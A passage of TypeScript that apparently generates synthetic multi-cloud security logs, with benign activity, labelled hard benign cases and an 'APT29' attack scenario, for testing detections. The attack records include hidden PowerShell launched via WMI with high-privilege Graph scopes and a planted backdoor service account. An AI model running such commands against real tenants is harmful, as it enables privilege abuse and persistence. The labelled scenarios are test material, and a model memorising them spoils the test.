    az: (os: Os) => `python/3.11.8 (${os === 'Windows' ? 'Windows-10-10.0.22631-SP0' : os === 'macOS' ? 'macOS-14.4-arm64-arm-64bit' : 'Linux-6.5.0-1016-azure-x86_64-with-glibc2.35'}) AZURECLI/2.61.0`,
    awscli: (os: Os) => `aws-cli/2.15.${int(10, 40)} md/awscrt#0.19.19 ua/2.0 os/${os === 'Windows' ? 'windows#10' : os === 'macOS' ? 'macos#23.4.0' : 'linux#6.5.0-1016-aws'} md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe command/${pick(['s3.ls', 'sts.get-caller-identity', 'ec2.describe-instances'])}`,
    gcloud: () => `google-cloud-sdk gcloud/471.0.0 command/gcloud.${pick(['compute.instances.list', 'projects.describe', 'storage.ls'])} invocation-id/${hex(32)} environment/None environment-version/None client-os/LINUX client-os-ver/6.5.0 client-pltf-arch/x86_64 interactive/True from-script/False python/3.11.8 term/xterm-256color (Linux 6.5.0-1016)`,
    browser: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  };
  const officeIp = (s: Site): string => `${s.net}.${int(1, 40)}`;

  // ---------- benign history + attack day
  for (const day of days) {
    const weekend = isWeekend(day);
    const isAttackDay = day.getTime() === attack.getTime();
    for (const u of users) {
      if (weekend && r() < 0.85) continue;
      if (!weekend && r() < 0.07) continue; // leave / sick day
      // where is the user today
      let site = u.home; let ip = r() < 0.55 ? officeIp(u.home) : u.homeNet;
      if (u.cls === 'traveller') {
        const k = Math.floor((day.getTime() - historyStart.getTime()) / 86400000);
        const seq = (u.id.charCodeAt(0) + k) % 9; // trips of a few days, some crossing into the attack day
        if (seq >= 5) { const tsite = TRAVEL[(u.id.charCodeAt(1) + Math.floor(k / 9)) % TRAVEL.length]!; site = tsite; ip = `${tsite.net}.${(u.id.charCodeAt(2) + k) % 250 + 1}`; }
      }
      if (u.cls === 'vpn' && r() < 0.6) { site = VPN_EGRESS; ip = `${VPN_EGRESS.net}.${int(1, 30)}`; }
      const n = int(2, 6);
      let last = workTime(day, u.home);
      for (let k = 0; k < n; k++) {
        const t = last + int(5, 90) * 60000; last = t;
        const app = pick(['outlook', 'teams', 'office', 'onedrive', 'portal'] as AppKey[]);
        const useSite = u.cls === 'vpn' && k % 2 === 1 && site === VPN_EGRESS ? u.home : site; // split tunnelling flips between home country and VPN
        const useIp = useSite === site ? ip : officeIp(u.home);
        const risky = u.cls === 'risk-remediated' && r() < 0.15;
        signIn({ t, u, app: app === 'portal' && u.cls === 'regular' ? 'office' : app, res: app === 'outlook' ? 'exo' : app === 'portal' ? 'arm' : 'spo', ip: useIp, site: useSite, dev: u.device, interactive: k === 0 || r() < 0.3, mfa: k === 0,
          ...(risky ? { risk: pick(['medium', 'low']), riskState: 'remediated', riskEvents: [pick(['unfamiliarFeatures', 'anonymizedIPAddress'])], anon: r() < 0.3 } : {}) });
        if (r() < 0.6) signIn({ t: t + int(1, 40) * 60000, u, app: pick(['outlook', 'teams', 'onedrive'] as AppKey[]), res: 'graph', ip: useIp, site: useSite, dev: u.device, interactive: false });
      }
      if (r() < 0.02) signIn({ t: last + 60000, u, app: 'office', res: 'spo', ip, site, dev: u.device, interactive: true, result: '50126' });
      // everyday processes with look-alike words
      if (u.device.os === 'Windows' && r() < 0.5) proc({ t: last, dev: u.device, acct: u, file: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: 'powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\Intune\\Scripts\\Get-AzureADJoinStatus.ps1', parent: 'AgentExecutor.exe', parentCmd: 'AgentExecutor.exe -powershell', grand: 'IntuneManagementExtension.exe' });
      if (u.device.os === 'macOS' && r() < 0.3) proc({ t: last, dev: u.device, acct: u, file: 'git', folder: '/usr/bin/git', cmd: 'git clone https://dev.azure.com/nwintl/platform/_git/aws-gcp-landing-zone', parent: 'zsh', parentCmd: '-zsh' });

      // DevOps engineers: CLIs daily on their own laptop, home/office IPs
      if (u.cls === 'devops') {
        const t = workTime(day, u.home);
        const devAcct = { sam: u.sam, upn: u.upn, sid: u.sid };
        const cmds = [
          azCmd(u.device, pick(['login', 'account show', 'aks get-credentials -g rg-prod -n aks-prod-weu', 'group list -o table', 'login --tenant ' + tenantDomain])),
          awsCmd(u.device, pick(['sso login --sso-session nwintl', 'sts get-caller-identity --profile prod-admin', 's3 ls --profile data'])),
          gcloudCmd(u.device, pick(['auth application-default login', 'auth login --update-adc', 'config set project ' + gcpProject, 'container clusters get-credentials gke-prod --region europe-west3'])),
          u.device.os === 'macOS' ? { file: 'aws-vault', folder: '/opt/homebrew/bin/aws-vault', cmd: `aws-vault exec prod-admin -- terraform plan`, parent: 'zsh', parentCmd: '-zsh' } : azCmd(u.device, 'account get-access-token --resource https://management.azure.com/ --query expiresOn'),
          u.device.os === 'Windows' ? pwshCmd(u.device, `Connect-AzAccount -Tenant ${tenantId} -Subscription nw-prod`) : azCmd(u.device, 'login --use-device-code'),
        ];
        for (let k = 0; k < cmds.length; k++) if (r() < 0.7) proc({ t: t + k * 300000, dev: u.device, acct: devAcct, ...cmds[k]! });
        const cliIp = ip;
        signIn({ t: t + 20000, u, app: 'azcli', res: 'arm', ip: cliIp, site, dev: u.device, interactive: r() < 0.3, ua: CLI_UA.az(u.device.os), mfa: true });
        for (let k = 0; k < 3; k++) signIn({ t: t + (k + 1) * 1800000, u, app: 'azcli', res: pick(['arm', 'graph']), ip: cliIp, site, dev: u.device, interactive: false, ua: CLI_UA.az(u.device.os) });
        if (u.device.os === 'Windows') signIn({ t: t + 1220000, u, app: 'azps', res: 'arm', ip: cliIp, site, dev: u.device, interactive: true, mfa: true });
        // AWS via Identity Center (SAML), CLI calls from the laptop
        signIn({ t: t + 60000, u, app: 'awssso', res: 'graph', ip: cliIp, site, dev: u.device, interactive: true, mfa: true, ua: CLI_UA.browser });
        const role = pick(['AWSReservedSSO_PowerUserAccess_5e2a1b3c4d', 'AWSReservedSSO_ReadOnlyAccess_9f8e7d6c5b']);
        const sess = `arn:aws:sts::${awsAcct}:assumed-role/${role}/${u.upn}`;
        ct({ t: t + 70000, name: 'AssumeRoleWithSAML', src: 'sts.amazonaws.com', type: 'SAMLUser', arn: '', principal: `${u.upn}`, ua: 'aws-internal/3', ip: cliIp, req: { roleArn: `arn:aws:iam::${awsAcct}:role/aws-reserved/sso.amazonaws.com/${role}` } });
        if (r() < 0.5) ct({ t: t + 80000, name: 'ConsoleLogin', src: 'signin.amazonaws.com', type: 'AssumedRole', arn: sess, principal: `AROA${hex(8).toUpperCase()}:${u.upn}`, ua: CLI_UA.browser, ip: cliIp, issuer: role, consoleType: true, resp: { ConsoleLogin: 'Success' }, add: { MobileVersion: 'No', MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com/console/home' } });
        if (u.device.os === 'macOS' && r() < 0.5) ct({ t: t + 85000, name: 'GetSigninToken', src: 'signin.amazonaws.com', type: 'AssumedRole', arn: sess, principal: `AROA${hex(8).toUpperCase()}:${u.upn}`, ua: 'aws-vault/7.2.0', ip: cliIp, issuer: role, consoleType: true, resp: { GetSigninToken: 'Success' } });
        for (let k = 0; k < int(3, 12); k++) ct({ t: t + 100000 + k * 240000, name: pick(['DescribeInstances', 'ListBuckets', 'GetCallerIdentity', 'DescribeStacks', 'PutObject']), src: pick(['ec2.amazonaws.com', 's3.amazonaws.com', 'sts.amazonaws.com', 'cloudformation.amazonaws.com']), type: 'AssumedRole', arn: sess, principal: `AROA${hex(8).toUpperCase()}:${u.upn}`, ua: CLI_UA.awscli(u.device.os), ip: cliIp, issuer: role, key: `ASIA${hex(16).toUpperCase()}`, ro: true });
        for (let k = 0; k < int(2, 6); k++) gcp(t + 200000 + k * 300000, u.upn, pick(['v1.compute.instances.list', 'io.k8s.core.v1.pods.list', 'storage.objects.list', 'google.iam.admin.v1.ListServiceAccounts']), pick(['compute.googleapis.com', 'k8s.io', 'storage.googleapis.com', 'iam.googleapis.com']), cliIp, CLI_UA.gcloud(), `projects/${gcpProject}`);
      }
      // Cloud admins: PAW, adm- account, PowerShell modules, directory changes
      if (u.cls === 'cloud-admin' && u.admin && !weekend) {
        const a = u.admin; const paw = a.device; const t = workTime(day, u.home);
        const aAcct = { sam: a.sam, upn: a.upn, sid: a.sid };
        proc({ t, dev: paw, acct: aAcct, ...pwshCmd(paw, `Connect-MgGraph -Scopes 'User.ReadWrite.All','RoleManagement.ReadWrite.Directory' -NoWelcome`) });
        if (r() < 0.6) proc({ t: t + 400000, dev: paw, acct: aAcct, ...pwshCmd(paw, `Connect-AzAccount -Tenant ${tenantDomain}; Get-AzRoleAssignment -Scope /subscriptions/${guid()}`) });
        if (r() < 0.3) proc({ t: t + 800000, dev: paw, acct: aAcct, ...pwshCmd(paw, `Connect-ExchangeOnline -UserPrincipalName ${a.upn} -ShowBanner:$false`) });
        const pip = officeIp(u.home);
        signIn({ t: t + 15000, u: a, app: 'graphps', res: 'graph', ip: pip, site: u.home, dev: paw, interactive: true, mfa: true });
        signIn({ t: t + 415000, u: a, app: 'azps', res: 'arm', ip: pip, site: u.home, dev: paw, interactive: true, mfa: true });
        for (let k = 0; k < 3; k++) signIn({ t: t + 600000 + k * 900000, u: a, app: pick(['graphps', 'azps']), res: pick(['graph', 'arm']), ip: pip, site: u.home, dev: paw, interactive: false });
        signIn({ t: t + 30000, u: a, app: 'portal', res: 'arm', ip: pip, site: u.home, dev: paw, interactive: true, mfa: true });
        for (let k = 0; k < int(1, 4); k++) {
          const target = pick(users);
          const op = pick(['Reset user password', 'Add member to role', 'Update user', 'Add member to group', 'Add service principal credentials', 'Update application – Certificates and secrets management']);
          const tgt = op.includes('service principal') || op.includes('application') ? [{ id: guid(), displayName: pick(['app-payroll-sync', 'app-grafana-sso', 'app-terraform-ci']), type: op.includes('service principal') ? 'ServicePrincipal' : 'Application', modifiedProperties: [{ displayName: 'KeyDescription', oldValue: '[]', newValue: `[\"[KeyIdentifier=${guid()},KeyType=Password,KeyUsage=Verify,DisplayName=rotated-${day.toISOString().slice(0, 10)}]\"]` }] }]
            : userTarget(target, op === 'Add member to role' ? roleProp(pick(['User Administrator', 'Helpdesk Administrator', 'Application Administrator'])) : []);
          audit(t + 700000 + k * 600000, op, op.includes('role') ? 'RoleManagement' : op.includes('pplication') || op.includes('service') ? 'ApplicationManagement' : 'UserManagement', { upn: a.upn, id: a.id, ip: pip }, tgt as Record<string, unknown>[], 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) PowerShell/7.4.1');
        }
      }
      // admins among devops use their adm- account with az on their laptop, now and then
      if (u.cls === 'devops' && u.admin && r() < 0.4) {
        const t = workTime(day, u.home);
        proc({ t, dev: u.device, acct: { sam: u.admin.sam, upn: u.admin.upn, sid: u.admin.sid }, ...azCmd(u.device, 'login --tenant ' + tenantDomain) });
        signIn({ t: t + 15000, u: u.admin, app: 'azcli', res: 'arm', ip, site, dev: u.device, interactive: true, mfa: true, ua: CLI_UA.az(u.device.os) });
      }
    }

    // CI/CD agents: service-principal logins every hour (service principals sign in to AADServicePrincipalSignInLogs, not modelled), cloud calls
    for (let h = 0; h < 24; h += weekend ? 6 : 1) {
      ciAgents.forEach((agent, i) => {
        const t = day.getTime() + h * 3600000 + int(0, 3000) * 1000;
        const svc = { sam: agent.os === 'Windows' ? 'svc-adoagent' : 'runner', upn: '', sid: `S-1-5-21-3623811015-3361044348-30300820-${5000 + i}` };
        proc({ t, dev: agent, acct: svc, ...azCmd(agent, `login --service-principal -u ${guid()} --tenant ${tenantId} --federated-token $(cat $AZURE_FEDERATED_TOKEN_FILE)`) });
        proc({ t: t + 30000, dev: agent, acct: svc, ...awsCmd(agent, `sts assume-role-with-web-identity --role-arn arn:aws:iam::${awsAcct}:role/ci-deployer --role-session-name gha-${hex(6)} --web-identity-token file:///tmp/oidc`) });
        proc({ t: t + 60000, dev: agent, acct: svc, ...gcloudCmd(agent, `auth activate-service-account ci-deployer@${gcpProject}.iam.gserviceaccount.com --key-file=/tmp/gcp-sa.json`) });
        ct({ t: t + 35000, name: 'AssumeRoleWithWebIdentity', src: 'sts.amazonaws.com', type: 'WebIdentityUser', arn: '', principal: `token.actions.githubusercontent.com:repo:nwintl/platform:ref:refs/heads/main`, ua: CLI_UA.awscli('Linux'), ip: ciIps[i]!, req: { roleArn: `arn:aws:iam::${awsAcct}:role/ci-deployer` } });
        ct({ t: t + 40000, name: pick(['UpdateStack', 'PutObject', 'CreateTags', 'RegisterTaskDefinition']), src: pick(['cloudformation.amazonaws.com', 's3.amazonaws.com', 'ecs.amazonaws.com']), type: 'AssumedRole', arn: `arn:aws:sts::${awsAcct}:assumed-role/ci-deployer/gha-${hex(6)}`, principal: `AROA${hex(8).toUpperCase()}:gha`, ua: CLI_UA.awscli('Linux'), ip: ciIps[i]!, issuer: 'ci-deployer', key: `ASIA${hex(16).toUpperCase()}` });
        gcp(t + 65000, `ci-deployer@${gcpProject}.iam.gserviceaccount.com`, 'google.container.v1.ClusterManager.UpdateCluster', 'container.googleapis.com', ciIps[i]!, CLI_UA.gcloud(), `projects/${gcpProject}/locations/europe-west3/clusters/gke-prod`);
      });
    }
    // multi-cloud monitoring tool: every 30 min, prints tokens, calls all three clouds
    for (let m = 0; m < 24 * 60; m += 30) {
      const t = day.getTime() + m * 60000 + int(0, 60) * 1000;
      const svc = { sam: 'svc-cloudmon', upn: '', sid: 'S-1-5-21-3623811015-3361044348-30300820-7001' };
      const base = { parent: 'python3', parentCmd: '/opt/cloudwatchtower/venv/bin/python3 /opt/cloudwatchtower/collector.py --providers azure,aws,gcp' };
      proc({ t, dev: monHost, acct: svc, file: 'python3', folder: '/opt/az/bin/python3', cmd: '/opt/az/bin/python3 -Im azure.cli account get-access-token --resource https://management.azure.com/ -o json', ...base });
      proc({ t: t + 5000, dev: monHost, acct: svc, file: 'aws', folder: '/usr/local/bin/aws', cmd: 'aws sts get-caller-identity --output json', ...base });
      proc({ t: t + 9000, dev: monHost, acct: svc, file: 'python3', folder: '/usr/bin/python3', cmd: '/usr/bin/python3 /usr/lib/google-cloud-sdk/lib/gcloud.py auth print-access-token --impersonate-service-account=monitor@' + gcpProject + '.iam.gserviceaccount.com', ...base });
      ct({ t: t + 6000, name: 'GetCallerIdentity', src: 'sts.amazonaws.com', type: 'AssumedRole', arn: `arn:aws:sts::${awsAcct}:assumed-role/cloudwatchtower-readonly/monitor`, principal: `AROA${hex(8).toUpperCase()}:monitor`, ua: CLI_UA.awscli('Linux'), ip: monIp, issuer: 'cloudwatchtower-readonly', key: `ASIA${hex(16).toUpperCase()}`, ro: true });
      gcp(t + 10000, `monitor@${gcpProject}.iam.gserviceaccount.com`, 'v1.compute.instances.aggregatedList', 'compute.googleapis.com', monIp, CLI_UA.gcloud(), `projects/${gcpProject}`);
    }
    // Entra Connect: delta sync every 30 min; Sync_ account signs in from the sync server
    for (let m = 0; m < 24 * 60; m += 30) {
      const t = day.getTime() + m * 60000 + int(0, 30) * 1000;
      proc({ t, dev: syncHost, acct: null, system: true, file: 'miiserver.exe', folder: 'C:\\Program Files\\Microsoft Azure AD Sync\\Bin\\miiserver.exe', cmd: '"C:\\Program Files\\Microsoft Azure AD Sync\\Bin\\miiserver.exe"', parent: 'services.exe', parentCmd: 'C:\\WINDOWS\\system32\\services.exe' });
      if (m % 180 === 0) proc({ t: t + 2000, dev: syncHost, acct: null, system: true, file: 'DirectorySyncClientCmd.exe', folder: 'C:\\Program Files\\Microsoft Azure AD Sync\\Bin\\DirectorySyncClientCmd.exe', cmd: '"C:\\Program Files\\Microsoft Azure AD Sync\\Bin\\DirectorySyncClientCmd.exe" delta', parent: 'svchost.exe', parentCmd: 'C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule' });
      signIn({ t: t + 5000, u: { upn: syncUpn, display: 'On-Premises Directory Synchronization Service Account', id: syncId + 'aaaa' }, app: 'aadsync', res: 'aadgraph', ip: syncIp, site: OFFICES[0]!, dev: null, interactive: false, ua: '' });
      if (r() < 0.5) {
        const target = pick(users);
        audit(t + 8000, pick(['Update user', 'Update user', 'Add member to group', 'Change user password']), 'UserManagement', { app: 'Microsoft Azure AD Connect', appId: APPS.aadsync[1] }, [userTarget(target, [{ displayName: 'LastDirSyncTime', oldValue: '', newValue: `"${iso(t)}"` }])]);
      }
    }
    // Arc / hybrid agents: daily status on Arc servers
    for (const h of arcHosts) {
      const t = day.getTime() + int(0, 23) * 3600000;
      proc({ t, dev: h, acct: null, system: true, file: h.os === 'Windows' ? 'azcmagent.exe' : 'azcmagent', folder: h.os === 'Windows' ? 'C:\\Program Files\\AzureConnectedMachineAgent\\azcmagent.exe' : '/opt/azcmagent/bin/azcmagent', cmd: h.os === 'Windows' ? '"C:\\Program Files\\AzureConnectedMachineAgent\\azcmagent.exe" show --json' : '/opt/azcmagent/bin/azcmagent check --location westeurope', parent: h.os === 'Windows' ? 'himds.exe' : 'himdsd', parentCmd: h.os === 'Windows' ? '"C:\\Program Files\\AzureConnectedMachineAgent\\himds.exe"' : '/opt/azcmagent/bin/himds' });
      if (h.os === 'Linux' && r() < 0.3) proc({ t: t + 60000, dev: h, acct: null, system: true, file: 'python3', folder: '/opt/az/bin/python3', cmd: '/opt/az/bin/python3 -Im azure.cli login --identity', parent: 'gc_linux_service', parentCmd: '/var/lib/GuestConfig/gc_linux_service' });
    }
    // EC2 application server: instance role used from the instance itself
    for (let h = 0; h < 24; h++) {
      const t = day.getTime() + h * 3600000 + int(0, 3000) * 1000;
      ct({ t, name: pick(['GetObject', 'PutObject', 'SendMessage', 'GetSecretValue']), src: pick(['s3.amazonaws.com', 'sqs.amazonaws.com', 'secretsmanager.amazonaws.com']), type: 'AssumedRole', arn: `arn:aws:sts::${awsAcct}:assumed-role/app-server-role/${instanceId}`, principal: `AROA${hex(8).toUpperCase()}:${instanceId}`, ua: 'aws-sdk-java/2.25.10 Linux/6.1.79-99.167.amzn2023.x86_64 OpenJDK_64-Bit_Server_VM/17.0.10+7-LTS Java/17.0.10', ip: ec2Ip, issuer: 'app-server-role', key: `ASIA${hex(16).toUpperCase()}`, ro: true });
      if (h % 6 === 0) proc({ t: t + 1000, dev: ec2Host, acct: { sam: 'ec2-user', upn: '', sid: '' }, file: 'curl', folder: '/usr/bin/curl', cmd: 'curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/placement/availability-zone', parent: 'amazon-cloudwatch-agent', parentCmd: '/opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent' });
    }
  }

  // ---------- hard benign cases on the attack day (what a baseline has legitimately not seen)
  const A = attack.getTime();
  const tokenDev = users.find((u) => u.cls === 'devops' && u.device.os !== 'Windows') ?? users[0]!;
  {
    const devs = users.filter((u) => u.cls === 'devops' && u !== tokenDev);
    // a DevOps engineer at a conference abroad: managed laptop, MFA, az + Azure CLI sign-in from a hotel in a new country
    const trav = devs[devs.length - 1]!;
    const conf: Site = { cc: 'ES', country: 'Spain', city: 'Barcelona', state: 'Catalunya', lat: 41.39, lon: 2.17, net: '88.26.140', tz: 1 };
    const hip = `${conf.net}.${int(1, 250)}`; own('hard-conference-trip', hip);
    const t = A + (9 - conf.tz) * 3600000 + int(0, 3000) * 1000;
    hardCase('hard-conference-trip', [trav.upn, trav.sam, hip], t - 60000, t + 3 * 3600000);
    signIn({ t, u: trav, app: 'outlook', res: 'exo', ip: hip, site: conf, dev: trav.device, interactive: true, mfa: true });
    proc({ t: t + 600000, dev: trav.device, acct: { sam: trav.sam, upn: trav.upn, sid: trav.sid }, ...azCmd(trav.device, 'login') });
    signIn({ t: t + 620000, u: trav, app: 'azcli', res: 'arm', ip: hip, site: conf, dev: trav.device, interactive: true, mfa: true, ua: CLI_UA.az(trav.device.os) });
    signIn({ t: t + 2400000, u: trav, app: 'azcli', res: 'arm', ip: hip, site: conf, dev: trav.device, interactive: false, ua: CLI_UA.az(trav.device.os) });
    // a new DevOps hire: first day, new laptop, first CLI logins ever
    const hire: User = { first: 'Noor', last: 'Haddad', sam: 'nhaddad', upn: `noor.haddad@${domain}`, id: guid(), display: 'Noor Haddad', sid: 'S-1-5-21-3623811015-3361044348-30300820-120001', home: OFFICES[2]!, homeNet: `${HOME_NETS.SG![0]}.${int(0, 255)}.${int(1, 254)}`, cls: 'devops', synced: true, device: null as unknown as Device };
    hire.device = mkDevice(hire, 'macOS', 'sg-lt'); hire.device.owner = hire;
    own('hard-new-hire', hire.upn, hire.sam, hire.device.name);
    const th = A + (10 - hire.home.tz) * 3600000; const hip2 = officeIp(hire.home);
    hardCase('hard-new-hire', [hire.upn, hire.sam, hire.device.name], th - 60000, th + 5 * 3600000);
    signIn({ t: th, u: hire, app: 'office', res: 'spo', ip: hip2, site: hire.home, dev: hire.device, interactive: true, mfa: true });
    proc({ t: th + 3600000, dev: hire.device, acct: { sam: hire.sam, upn: hire.upn, sid: hire.sid }, ...azCmd(hire.device, 'login') });
    proc({ t: th + 3700000, dev: hire.device, acct: { sam: hire.sam, upn: hire.upn, sid: hire.sid }, ...awsCmd(hire.device, 'configure sso') });
    proc({ t: th + 3800000, dev: hire.device, acct: { sam: hire.sam, upn: hire.upn, sid: hire.sid }, ...gcloudCmd(hire.device, 'auth login') });
    signIn({ t: th + 3620000, u: hire, app: 'azcli', res: 'arm', ip: hip2, site: hire.home, dev: hire.device, interactive: true, mfa: true, ua: CLI_UA.az('macOS') });
    gcp(th + 3900000, hire.upn, 'v1.compute.instances.list', 'compute.googleapis.com', hip2, CLI_UA.gcloud(), `projects/${gcpProject}`);
    // a cloud admin on a freshly re-imaged PAW (new device name), routine role assignment
    const adminOwner = users.filter((u) => u.cls === 'cloud-admin' && u.admin).slice(-1)[0]!;
    const a = adminOwner.admin!; const np = mkDevice(null, 'Windows', `paw-${adminOwner.home.cc.toLowerCase()}-`);
    own('hard-new-paw', np.name, np.fqdn);
    const tp = A + (14 - adminOwner.home.tz) * 3600000; const pip = officeIp(adminOwner.home);
    hardCase('hard-new-paw', [a.upn, a.sam, np.name], tp - 60000, tp + 3600000);
    proc({ t: tp, dev: np, acct: { sam: a.sam, upn: a.upn, sid: a.sid }, ...pwshCmd(np, 'Connect-MgGraph -Scopes RoleManagement.ReadWrite.Directory') });
    signIn({ t: tp + 20000, u: a, app: 'graphps', res: 'graph', ip: pip, site: adminOwner.home, dev: np, interactive: true, mfa: true });
    audit(tp + 600000, 'Add member to role', 'RoleManagement', { upn: a.upn, id: a.id, ip: pip }, [userTarget(pick(users), roleProp('Helpdesk Administrator'))], 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) PowerShell/7.4.1');
    // a DevOps engineer whose home ISP changed (new IP, same country): AWS console via SSO, gcloud
    const mover = devs[0]!; const nip = `${pick(HOME_NETS[mover.home.cc]!)}.${int(0, 255)}.${int(1, 254)}`; own('hard-new-home-ip', nip);
    const tm = A + (8 - mover.home.tz) * 3600000;
    hardCase('hard-new-home-ip', [mover.upn, mover.sam, nip], tm - 60000, tm + 3600000);
    const role = 'AWSReservedSSO_PowerUserAccess_5e2a1b3c4d'; const sess = `arn:aws:sts::${awsAcct}:assumed-role/${role}/${mover.upn}`;
    signIn({ t: tm, u: mover, app: 'awssso', res: 'graph', ip: nip, site: mover.home, dev: mover.device, interactive: true, mfa: true, ua: CLI_UA.browser });
    ct({ t: tm + 60000, name: 'ConsoleLogin', src: 'signin.amazonaws.com', type: 'AssumedRole', arn: sess, principal: `AROA${hex(8).toUpperCase()}:${mover.upn}`, ua: CLI_UA.browser, ip: nip, issuer: role, consoleType: true, resp: { ConsoleLogin: 'Success' }, add: { MobileVersion: 'No', MFAUsed: 'No', LoginTo: 'https://console.aws.amazon.com/console/home' } });
    gcp(tm + 120000, mover.upn, 'v1.compute.instances.list', 'compute.googleapis.com', nip, CLI_UA.gcloud(), `projects/${gcpProject}`);
    // a cloud admin travelling with the PAW (hotel in a country not seen in 14 days), MFA, routine password reset
    const tAdminOwner = users.filter((u) => u.cls === 'cloud-admin' && u.admin && u !== adminOwner)[2] ?? users.filter((u) => u.cls === 'cloud-admin' && u.admin)[0]!;
    const ta = tAdminOwner.admin!; const hotel: Site = { cc: 'IT', country: 'Italy', city: 'Milan', state: 'Lombardia', lat: 45.46, lon: 9.19, net: '151.38.12', tz: 1 };
    const hip3 = `${hotel.net}.${int(1, 250)}`; const tt = A + (16 - hotel.tz) * 3600000;
    hardCase('hard-admin-trip', [ta.upn, ta.sam, hip3], tt - 3600000, tt + 3 * 3600000);
    signIn({ t: tt - 1800000, u: tAdminOwner, app: 'outlook', res: 'exo', ip: hip3, site: hotel, dev: tAdminOwner.device, interactive: true, mfa: true });
    proc({ t: tt, dev: ta.device, acct: { sam: ta.sam, upn: ta.upn, sid: ta.sid }, ...pwshCmd(ta.device, 'Connect-MgGraph -Scopes User.ReadWrite.All') });
    signIn({ t: tt + 20000, u: ta, app: 'graphps', res: 'graph', ip: hip3, site: hotel, dev: ta.device, interactive: true, mfa: true });
    audit(tt + 900000, 'Reset user password', 'UserManagement', { upn: ta.upn, id: ta.id, ip: hip3 }, [userTarget(pick(users))], 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) PowerShell/7.4.1');
    // a DevOps engineer whose SASE / secure-web-gateway egress moved to a neighbouring country's PoP, az from there
    const sase = devs[1] ?? devs[0]!;
    const pop: Site = sase.home.cc === 'DE' ? { cc: 'NL', country: 'Netherlands', city: 'Amsterdam', state: 'North Holland', lat: 52.37, lon: 4.9, net: '165.225.80', tz: 1 }
      : sase.home.cc === 'US' ? { cc: 'CA', country: 'Canada', city: 'Toronto', state: 'Ontario', lat: 43.65, lon: -79.38, net: '165.225.210', tz: -5 }
      : sase.home.cc === 'MX' ? { cc: 'US', country: 'United States', city: 'Dallas', state: 'Texas', lat: 32.78, lon: -96.8, net: '165.225.216', tz: -6 }
      : { cc: 'MY', country: 'Malaysia', city: 'Kuala Lumpur', state: 'Kuala Lumpur', lat: 3.14, lon: 101.69, net: '165.225.112', tz: 8 };
    const sip = `${pop.net}.${int(1, 250)}`; const ts = A + (10 - sase.home.tz) * 3600000;
    hardCase('hard-sase-egress', [sase.upn, sase.sam, sip], ts - 60000, ts + 4 * 3600000);
    signIn({ t: ts, u: sase, app: 'teams', res: 'spo', ip: sip, site: pop, dev: sase.device, interactive: true, mfa: true });
    proc({ t: ts + 300000, dev: sase.device, acct: { sam: sase.sam, upn: sase.upn, sid: sase.sid }, ...azCmd(sase.device, 'login') });
    signIn({ t: ts + 320000, u: sase, app: 'azcli', res: 'arm', ip: sip, site: pop, dev: sase.device, interactive: true, mfa: true, ua: CLI_UA.az(sase.device.os) });
    signIn({ t: ts + 3600000, u: sase, app: 'azcli', res: 'graph', ip: sip, site: pop, dev: sase.device, interactive: false, ua: CLI_UA.az(sase.device.os) });
  }

  // ---------- attacks (all on the attack day)
  const scenarios: Scenario[] = [];
  const begin = (id: string, name: string, unique: string[], accounts: string[], from: number, to: number): Scenario => {
    const s: Scenario = { id, name, unique, accounts, window: [iso(from), iso(to)], rows: {} };
    scenarios.push(s); cur = s; return s;
  };
  const vps = (a: number) => `${a}.${int(10, 250)}.${int(0, 255)}.${int(1, 254)}`;
  const ATT_SITES: Site[] = [
    { cc: 'NL', country: 'Netherlands', city: 'Amsterdam', state: 'North Holland', lat: 52.37, lon: 4.9, net: '', tz: 1 },
    { cc: 'RO', country: 'Romania', city: 'Bucharest', state: 'Bucuresti', lat: 44.43, lon: 26.1, net: '', tz: 2 },
    { cc: 'VN', country: 'Vietnam', city: 'Hanoi', state: 'Ha Noi', lat: 21.03, lon: 105.85, net: '', tz: 7 },
    { cc: 'BR', country: 'Brazil', city: 'Sao Paulo', state: 'Sao Paulo', lat: -23.55, lon: -46.63, net: '', tz: -3 },
  ];

  // 1. APT29: a synced admin account (adm-*) used from a regular user's workstation with Graph / Azure AD PowerShell, then privileged changes
  {
    const admOwner = users.find((u) => u.cls === 'cloud-admin' && u.admin)!;
    const adm = admOwner.admin!;
    const ws = users.find((u) => u.cls === 'regular' && u.device.os === 'Windows' && u.home === admOwner.home)?.device ?? users[4]!.device;
    const t0 = A + (13 - admOwner.home.tz) * 3600000 + 17 * 60000;
    const backdoor = { id: guid(), upn: `svc-backup-ops@${tenantDomain}`, display: 'svc-backup-ops' };
    const s = begin('apt29-synced-admin', 'APT29: synced privileged account, Graph/Azure AD PowerShell from an odd workstation, role and credential changes', [backdoor.upn, 'app-mail-archiver'], [adm.upn, adm.sam, ws.name, ws.fqdn], t0 - 60000, t0 + 3 * 3600000);
    const ip = officeIp(admOwner.home);
    const acct = { sam: adm.sam, upn: adm.upn, sid: adm.sid };
    proc({ t: t0, dev: ws, acct, file: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: 'powershell.exe -nop -w hidden -c "Import-Module AzureAD; Connect-AzureAD -AccountId ' + adm.upn + '"', parent: 'wmiprvse.exe', parentCmd: 'C:\\WINDOWS\\system32\\wbem\\wmiprvse.exe -secured -Embedding', grand: 'svchost.exe' });
    proc({ t: t0 + 240000, dev: ws, acct, file: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: 'powershell.exe -nop -c "Connect-MgGraph -Scopes Application.ReadWrite.All,RoleManagement.ReadWrite.Directory -NoWelcome; Get-MgServicePrincipal -All"', parent: 'wmiprvse.exe', parentCmd: 'C:\\WINDOWS\\system32\\wbem\\wmiprvse.exe -secured -Embedding', grand: 'svchost.exe' });
